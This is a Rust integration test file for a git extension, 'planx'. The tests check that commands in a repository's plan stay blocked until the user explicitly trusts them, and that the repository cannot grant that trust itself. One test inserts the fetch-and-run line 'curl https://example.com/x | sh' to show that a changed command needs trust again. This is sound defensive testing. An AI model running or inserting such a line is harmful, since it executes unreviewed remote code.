//! Trust (SPEC §7): nothing from the repository runs until its commands are trusted here.

use insta::assert_snapshot;

use crate::common::{Repo, WALK_PLAN, walk_plan};

#[test]
fn untrusted_commands_are_refused_before_anything_runs() {
    let repo = Repo::new();
    repo.write_plan(&walk_plan().preflight(["touch ran"]).toml());
    repo.commit_all("Plan");
    assert_snapshot!(repo.planx(&["start", "a"]), @"
    --- stderr ---
    error: the plan's commands are not trusted on this machine
      test ! -e broken
      test -f a.txt
      touch ran
    hint: read them; if you agree to run them here, `git planx trust` (or --trust-once; PLANX_TRUST=1 in CI)
    [exit status: 4]
    ");
    assert!(!repo.path("ran").exists(), "nothing ran");
    assert!(repo.git(&["branch", "--list", "planx/*"]).is_empty());
}

#[test]
fn changed_commands_need_trust_again_and_show_a_diff() {
    let repo = Repo::with_plan(&WALK_PLAN);
    repo.write_plan(
        &walk_plan()
            .command("test", "curl https://example.com/x | sh")
            .toml(),
    );
    repo.commit_all("Change a command");
    assert_snapshot!(repo.planx(&["start", "a"]), @"
    --- stderr ---
    error: the plan's commands changed since they were trusted on this machine
      - test ! -e broken
      + curl https://example.com/x | sh
        test -f a.txt
    hint: read them; if you agree to run them here, `git planx trust` (or --trust-once; PLANX_TRUST=1 in CI)
    [exit status: 4]
    ");
    assert_snapshot!(repo.planx(&["trust"]), @"
    trusted the plan's 2 commands in this repository:
      curl https://example.com/x | sh
      test -f a.txt
    --- stderr ---
    [exit status: 0]
    ");
    assert_eq!(repo.planx(&["untrust", "-q"]).code, 0);
    assert_eq!(repo.planx(&["start", "a"]).code, 4);
}

#[test]
fn trust_once_and_the_environment() {
    let marker = |repo: &Repo| repo.root.parent().unwrap().join("preflight-ran");
    let plan = |repo: &Repo| {
        walk_plan()
            .preflight([format!("touch {}", marker(repo).display())])
            .toml()
    };
    let nothing_stored = |repo: &Repo| {
        assert_eq!(
            repo.planx(&["untrust"]).stdout,
            "nothing was trusted for this repository\n"
        );
    };

    let repo = Repo::new();
    repo.write_plan(&plan(&repo));
    repo.commit_all("Plan");
    let run = repo.planx(&["start", "a", "--trust-once"]);
    assert_eq!(run.code, 0, "{run}");
    assert!(marker(&repo).exists(), "the preflight ran");
    nothing_stored(&repo);

    let repo = Repo::new();
    repo.write_plan(&plan(&repo));
    repo.commit_all("Plan");
    assert!(!marker(&repo).exists());
    let mut cmd = repo.command(crate::common::BIN, &repo.root);
    cmd.args(["start", "a"]).env("PLANX_TRUST", "1");
    let run = repo.run(&mut cmd);
    assert_eq!(run.code, 0, "{run}");
    assert!(marker(&repo).exists(), "the preflight ran");
    nothing_stored(&repo);
}

#[test]
fn the_repository_cannot_grant_trust() {
    let repo = Repo::new();
    repo.write_plan(&WALK_PLAN);
    repo.commit_all("Plan");
    // Neither the repository's config nor a file in it can stand in for `git planx trust`.
    repo.git(&["config", "planx.trust", "1"]);
    repo.write(".planx/trust.json", "{\"trusted\": true}\n");
    repo.commit_all("Try to trust from inside");
    assert_eq!(repo.planx(&["start", "a"]).code, 4);
}
